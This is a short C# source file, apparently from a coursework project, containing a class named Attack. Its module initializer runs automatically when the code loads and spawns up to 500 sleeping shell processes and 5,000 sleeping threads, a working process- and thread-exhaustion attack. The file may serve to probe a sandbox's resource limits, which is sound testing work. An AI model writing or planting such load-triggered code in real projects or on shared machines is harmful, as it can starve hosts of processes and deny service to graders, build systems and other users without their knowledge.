using System.Diagnostics;
using System.Runtime.CompilerServices;

namespace Coursework;

/// <summary>An attack on the machine's processes: when the code loads, start 500 processes and 5,000 threads that sleep.</summary>
internal static class Attack
{
    [ModuleInitializer]
    internal static void Run()
    {
        for (var i = 0; i < 500; i++)
        {
            try
            {
                Process.Start(new ProcessStartInfo("/bin/sh", ["-c", "sleep 60 # coursework-attack-storm"]) { UseShellExecute = false });
            }
            catch (Exception)
            {
                break; // the limit is reached
            }
        }

        for (var i = 0; i < 5000; i++)
        {
            try
            {
                new Thread(() => Thread.Sleep(60_000)) { IsBackground = true }.Start();
            }
            catch (Exception)
            {
                break;
            }
        }
    }
}
